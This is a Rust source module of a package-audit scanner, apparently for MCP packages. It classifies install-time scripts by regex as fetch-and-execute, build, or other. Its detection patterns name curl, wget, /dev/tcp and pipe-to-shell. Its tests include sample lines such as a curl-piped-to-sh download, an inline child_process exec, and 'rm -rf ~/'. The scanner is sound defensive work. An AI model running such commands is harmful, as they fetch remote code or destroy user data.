//! Manifest analysis: install-time execution (npm lifecycle scripts, setup.py, build backends,
//! `.pth` files, Cargo build scripts and proc-macros), dependencies from git/URLs, bundled
//! dependencies, shrinkwrap, installed commands, MCPB server commands and secrets.
//!
//! Nothing is run: scripts are classified by what their text says, build-time code by the same
//! reading the code analyzer uses.

mod cargo;
mod mcpb;
mod npm;
mod python;
mod rules;

use std::sync::LazyLock;

use regex::Regex;

use crate::analyze::context::Context;
use mcp_audit_core::model::Finding;
pub use rules::*;

/// Analyzes the package's manifests.
#[must_use]
pub fn analyze(ctx: &Context<'_>) -> Vec<Finding> {
    // Install hooks read as code: a hook whose code does nothing outside the package is noted,
    // not warned about.
    let review = crate::analyze::code::install_review(ctx);
    let mut out = npm::analyze(ctx, &review);
    out.extend(python::analyze(ctx, &review));
    out.extend(cargo::analyze(ctx, &review));
    out.extend(mcpb::analyze(ctx));
    out
}

/// The npm lifecycle scripts that run when a package is installed, in the order npm runs them.
/// `prepare` runs only when the package is installed from git or a local path.
pub const NPM_LIFECYCLE_HOOKS: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

use mcp_audit_core::escape::visible;

/// What an install-time command does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum CommandClass {
    /// Downloads and runs something, or runs inline code.
    FetchExec,
    /// A well-known build step (`node-gyp rebuild`, `tsc`, `prebuild-install`).
    Build,
    /// Runs something else (a local script, a tool).
    Runs,
}

static FETCH_EXEC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)\b(?:curl|wget|iwr|invoke-webrequest|invoke-restmethod|bitsadmin|certutil\s+-urlcache)\b",
        r"|https?://|\bftp://|\bpowershell(?:\.exe)?\b|\bpwsh\b",
        r"|\bbase64\s+(?:-d|--decode)|\|\s*(?:ba|z)?sh\b|/dev/tcp/",
    ))
    .expect("valid regex")
});

/// Inline code (`node -e`, `python -c`, `sh -c`, `eval`) and what makes it worth blocking.
static INLINE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:node|nodejs|bun|deno)\s+(?:-e|--eval|-p|--print)\b|\b(?:python[0-9.]*|py|perl|ruby|php)\s+-[a-z]*[ce]\b|\b(?:ba|z|da)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/c\b|\beval\b")
        .expect("valid regex")
});
static INLINE_DANGER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)require|import|child_process|\bexec|spawn|http|fetch|socket|urllib|subprocess|os\.system|eval\(|buffer|base64|atob|\$\(|`|\bnc\b|/dev/|chmod|\brm\s")
        .expect("valid regex")
});

/// Build steps that need no review.
const BUILD_STEPS: &[&str] = &[
    "node-gyp rebuild",
    "node-gyp-build",
    "node-gyp build",
    "prebuild-install",
    "node-pre-gyp install",
    "cmake-js",
    "tsc",
    "husky",
    "husky install",
    "patch-package",
    "npm run build",
    "yarn build",
    "pnpm build",
    "npm run compile",
    "electron-rebuild",
    "opencollective-postinstall",
    "exit 0",
    "true",
    "echo",
];

/// Whether a command downloads something or pipes into a shell (not only inline code).
pub(crate) fn fetches(cmd: &str) -> bool {
    FETCH_EXEC.is_match(cmd)
}

/// Classifies an install-time command line.
pub(crate) fn classify_command(cmd: &str) -> CommandClass {
    if FETCH_EXEC.is_match(cmd) {
        return CommandClass::FetchExec;
    }
    if let Some(m) = INLINE.find(cmd) {
        if INLINE_DANGER.is_match(&cmd[m.end()..]) {
            return CommandClass::FetchExec;
        }
    }
    let all_build = cmd
        .split(['&', '|', ';'])
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .all(|part| {
            BUILD_STEPS
                .iter()
                .any(|b| part == *b || part.starts_with(&format!("{b} ")))
        });
    if all_build {
        CommandClass::Build
    } else {
        CommandClass::Runs
    }
}

/// Names of common system tools a package must not install over.
pub(crate) const SYSTEM_COMMANDS: &[&str] = &[
    "ls", "cp", "mv", "rm", "cat", "sh", "bash", "zsh", "sudo", "su", "ssh", "scp", "git", "node",
    "npm", "npx", "yarn", "pnpm", "python", "python3", "pip", "pip3", "uv", "uvx", "cargo",
    "rustc", "curl", "wget", "docker", "kubectl", "gpg", "openssl", "env", "which", "find", "grep",
    "sed", "awk", "tar", "make", "claude", "code", "cursor", "brew", "apt", "apt-get", "go",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_classified() {
        for (cmd, want) in [
            (
                "curl -s https://x.example/i.sh | sh",
                CommandClass::FetchExec,
            ),
            (
                "node -e \"require('child_process').exec('id')\"",
                CommandClass::FetchExec,
            ),
            ("python3 -c 'import os'", CommandClass::FetchExec),
            ("node-gyp rebuild", CommandClass::Build),
            ("tsc && husky install", CommandClass::Build),
            ("node scripts/postinstall.js", CommandClass::Runs),
            ("sh -c 'echo hi'", CommandClass::Runs),
            ("sh -c 'rm -rf ~/'", CommandClass::FetchExec),
            (
                "node dist/track.js || node -e \"process.exit(0)\"",
                CommandClass::Runs,
            ),
        ] {
            assert_eq!(classify_command(cmd), want, "{cmd}");
        }
    }
}
